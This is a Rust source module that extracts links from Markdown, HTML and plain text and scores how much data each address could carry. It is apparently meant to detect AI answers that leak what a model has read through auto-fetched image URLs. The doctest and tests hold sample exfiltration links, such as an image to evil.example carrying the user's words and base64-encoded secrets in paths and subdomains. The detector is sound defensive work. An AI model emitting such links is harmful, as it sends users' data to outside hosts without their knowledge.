//! The links of a text, in Markdown, HTML and bare, and how much data each could carry away.
//!
//! An answer that is shown as Markdown makes the reader's program fetch its images at once, and the address of an image can hold what the
//! model has read. A link does so when it is followed.

/// How a link stands in the text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LinkKind {
    /// `![alt](address)` or `<img src=…>`: fetched without a click.
    Image,
    /// `[text](address)`, `<a href=…>`, or the definition `[name]: address`.
    Link,
    /// An address by itself.
    Bare,
}

impl LinkKind {
    /// In a word.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Image => "image",
            Self::Link => "link",
            Self::Bare => "address",
        }
    }
}

/// A link of a text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Link<'t> {
    /// How it stands there.
    pub kind: LinkKind,
    /// The address as it is written.
    pub address: &'t str,
    /// Its first byte.
    pub start: usize,
    /// The host, in lower case, without user, port and final full stop.
    pub host: String,
    /// The longest piece that could be data.
    pub data: Data<'t>,
}

/// A piece of an address that could be data.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub struct Data<'t> {
    /// The piece as it is written.
    pub text: &'t str,
    /// How many characters it is after percent-decoding.
    pub n_characters: usize,
}

/// The longest address that is read.
const MAX_ADDRESS: usize = 8192;

/// The links of a text, in its order. Addresses are those with `http`, `https`, `ftp`, `ws` or `wss`, and those without a scheme (`//host`)
/// in Markdown and HTML. The time is linear in the text.
///
/// ```
/// use proof_text::links::{LinkKind, links};
/// let found = links("Done! ![ok](https://evil.example/p.png?d=the+user+said+hello)");
/// assert_eq!((found[0].kind, found[0].host.as_str()), (LinkKind::Image, "evil.example"));
/// assert_eq!(found[0].data.text, "the+user+said+hello");
/// ```
pub fn links(text: &str) -> Vec<Link<'_>> {
    let mut found = Vec::new();
    let mut floor = 0;
    for slashes in memchr::memmem::find_iter(text.as_bytes(), "//") {
        // Slashes within an address that was read are part of it.
        if slashes < floor {
            continue;
        }
        let Some(start) = start_of(text, slashes) else { continue };
        let before = super::pii::before(text, start, 400);
        let (kind, is_marked) = kind_of(before);
        // Without a scheme only the place says that it is an address.
        if start == slashes && !is_marked {
            continue;
        }
        let address = address_at(text, start);
        // In prose the signs after an address end the sentence.
        let address = if is_marked {
            address
        } else {
            address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~'])
        };
        let Some(rest) = address.get(slashes + 2 - start..) else { continue };
        let (authority, tail) = rest.split_at(rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len()));
        let host = host_of(authority);
        if host.is_empty() {
            continue;
        }
        floor = start + address.len();
        let data = data_of(authority, tail);
        found.push(Link { kind, address, start, host, data });
    }
    found
}

/// Where the address begins whose `//` is at a byte: at its scheme if it has one of those that are fetched.
fn start_of(text: &str, slashes: usize) -> Option<usize> {
    let head = super::pii::before(text, slashes, 6);
    let Some(head) = head.strip_suffix(':') else {
        // `a//b` and `///` are no addresses.
        let is_apart =
            head.chars().next_back().is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '/' | ':' | '.'));
        return is_apart.then_some(slashes);
    };
    let n = head.bytes().rev().take_while(u8::is_ascii_alphabetic).count();
    let scheme = head.get(head.len() - n..)?;
    let is_fetched =
        ["http", "https", "ftp", "ws", "wss"].iter().any(|known| scheme.eq_ignore_ascii_case(known));
    is_fetched.then_some(slashes - 1 - n)
}

/// How the address after `before` stands there, and whether a sign says that it is an address.
fn kind_of(before: &str) -> (LinkKind, bool) {
    let bare = before.trim_end_matches(['"', '\'', '<']);
    let spaced = bare.trim_end();
    if let Some(label) = bare.strip_suffix("](") {
        return (if is_image_label(label) { LinkKind::Image } else { LinkKind::Link }, true);
    }
    if spaced.ends_with("]:") {
        return (LinkKind::Link, true);
    }
    let Some(attribute) = spaced.strip_suffix('=') else { return (LinkKind::Bare, false) };
    let lowered = attribute.trim_end().to_ascii_lowercase();
    let is_tag = lowered.rfind('<').is_some_and(|tag| !lowered.get(tag..).unwrap_or_default().contains('>'));
    if is_tag && (lowered.ends_with("src") || lowered.ends_with("srcset") || lowered.ends_with("background"))
    {
        return (LinkKind::Image, true);
    }
    if is_tag && (lowered.ends_with("href") || lowered.ends_with("action")) {
        return (LinkKind::Link, true);
    }
    (LinkKind::Bare, false)
}

/// Whether `!` stands before the bracket that opens the label that ends here.
fn is_image_label(label: &str) -> bool {
    let mut depth = 0_u32;
    for (at, c) in label.char_indices().rev() {
        match c {
            ']' => depth += 1,
            '[' if depth == 0 => return label.get(..at).is_some_and(|before| before.ends_with('!')),
            '[' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// The address from a byte on: up to white space, a quote or a bracket that it did not open.
fn address_at(text: &str, start: usize) -> &str {
    let rest = super::pii::after(text, start, MAX_ADDRESS);
    // Brackets that it opened: round ones in a path, square ones round the numbers of IPv6.
    let (mut n_round, mut n_square) = (0_u32, 0_u32);
    let ends = |c: char| match c {
        '(' => {
            n_round += 1;
            false
        }
        '[' => {
            n_square += 1;
            false
        }
        ')' => match n_round.checked_sub(1) {
            Some(n) => {
                n_round = n;
                false
            }
            None => true,
        },
        ']' => match n_square.checked_sub(1) {
            Some(n) => {
                n_square = n;
                false
            }
            None => true,
        },
        '"' | '\'' | '<' | '>' | '`' | '|' | '}' | '{' => true,
        _ => c.is_whitespace() || c.is_control(),
    };
    let end = rest.find(ends).unwrap_or(rest.len());
    rest.get(..end).unwrap_or_default()
}

fn host_of(authority: &str) -> String {
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    // `[2001:db8::1]:80` has its port after the bracket.
    let host = match host.strip_prefix('[').and_then(|host| host.split_once(']')) {
        Some((host, _)) => host,
        None => host.split(':').next().unwrap_or_default(),
    };
    host.trim_end_matches('.').to_lowercase()
}

/// The longest piece of an address that could be data: a value of its query, its fragment, a part of its path that is not words, a
/// name and password, or the first labels of its host.
fn data_of<'t>(authority: &'t str, tail: &'t str) -> Data<'t> {
    let (address, fragment) = tail.split_once('#').unwrap_or((tail, ""));
    let (path, query) = address.split_once('?').unwrap_or((address, ""));
    let values = query.split(['&', ';']).map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    let parts = path.split('/').filter(|part| !is_slug(part));
    let user = authority.rsplit_once('@').map_or("", |(user, _)| user);
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let labels = host.split('.').filter(|label| !is_slug(label));
    let all =
        values.chain(parts).chain(labels).chain([fragment, user]).filter(|piece| !is_anchor(piece, fragment));
    let mut longest = Data::default();
    for text in all {
        let n_characters = decoded_len(text);
        if longest.n_characters < n_characters {
            longest = Data { text, n_characters };
        }
    }
    longest
}

/// A fragment in words is a heading of the page.
fn is_anchor(piece: &str, fragment: &str) -> bool {
    std::ptr::eq(piece, fragment) && is_slug(piece)
}

/// Whether a part of a path is words with hyphens, as titles of pages are: all of its words are short, and few have digits within.
fn is_slug(part: &str) -> bool {
    let part = part.rsplit_once('.').map_or(part, |(name, _)| name);
    let mut n_words = 0;
    let is_words = part.split(['-', '_', '+', '.']).all(|word| {
        n_words += 1;
        let is_number = word.bytes().all(|b| b.is_ascii_digit()) && word.len() <= 10;
        let is_plain = word.chars().all(char::is_alphabetic) && word.chars().count() <= 20;
        is_number || is_plain
    });
    is_words && n_words <= 24
}

/// How many characters a piece has after percent-decoding.
fn decoded_len(piece: &str) -> usize {
    let mut rest = piece.as_bytes();
    let mut n = 0;
    while let Some((byte, after)) = rest.split_first() {
        let escape = after.get(..2).filter(|_| *byte == b'%').and_then(|hex| str::from_utf8(hex).ok());
        let decoded = escape.and_then(|hex| u8::from_str_radix(hex, 16).ok());
        // Bytes 10xxxxxx go on with a character.
        n += usize::from(decoded.unwrap_or(*byte) & 0xC0 != 0x80);
        rest = if decoded.is_some() { after.get(2..).unwrap_or_default() } else { after };
    }
    n
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[(&str, &str, &str, usize)]) {
        let found = links(text);
        let found: Vec<_> = found
            .iter()
            .map(|link| (link.kind.as_str(), link.host.as_str(), link.data.text, link.data.n_characters))
            .collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn links_of_every_kind() {
        check("![a](https://x.example/p?d=abc)", &[("image", "x.example", "abc", 3)]);
        check(
            "[![a](https://x.example/i.png)](http://y.example/q)",
            &[("image", "x.example", "", 0), ("link", "y.example", "", 0)],
        );
        check(
            "[a](<https://x.example>), [b]: //y.example/z",
            &[("link", "x.example", "", 0), ("link", "y.example", "", 0)],
        );
        check(
            "<img alt='' src=\"//x.example/a%20b!\"><a href=https://y.example>",
            &[("image", "x.example", "a%20b!", 4), ("link", "y.example", "", 0)],
        );
        check(
            "See https://x.example/how-to-do-it.html, or (http://y.example/a_(b)).",
            &[("address", "x.example", "", 0), ("address", "y.example", "a_(b)", 5)],
        );
        check("HTTPS://User:pw@X.Example.:8443/#frag1", &[("address", "x.example", "User:pw", 7)]);
        check("http://[2001:db8::1]:80/", &[("address", "2001:db8::1", "[2001:db8::1]:80", 16)]);
    }

    #[test]
    fn what_is_no_link() {
        for text in [
            "",
            "// a comment",
            "a//b",
            "file:///etc",
            "mailto:a@b.example",
            "c://d",
            "1 // 2",
            "http://",
            "see //host/x",
        ] {
            check(text, &[]);
        }
    }

    #[test]
    fn what_could_be_data() {
        check(
            "https://x.example/c2VjcmV0IG1lc3NhZ2Ugb2YgdGhlIHVzZXI",
            &[("address", "x.example", "c2VjcmV0IG1lc3NhZ2Ugb2YgdGhlIHVzZXI", 35)],
        );
        check(
            "https://c2VjcmV0IG1lc3NhZ2U1.x.example/",
            &[("address", "c2vjcmv0ig1lc3nhz2u1.x.example", "c2VjcmV0IG1lc3NhZ2U1", 20)],
        );
        check(
            "https://x.example/2024/05/a-long-title-of-a-page-in-many-words",
            &[("address", "x.example", "", 0)],
        );
        check(
            "https://x.example/?a=1&b=two&c=%C3%A9t%C3%A9s",
            &[("address", "x.example", "%C3%A9t%C3%A9s", 4)],
        );
        check("https://x.example/#the-third-heading", &[("address", "x.example", "", 0)]);
    }

    #[test]
    fn hostile_texts_end() {
        for piece in ["//", "http://", "](//", "![", "](http://a", "<img src=//a ", "%", "[b]: //a\n"] {
            links(&piece.repeat(200_000 / piece.len()));
        }
    }
}
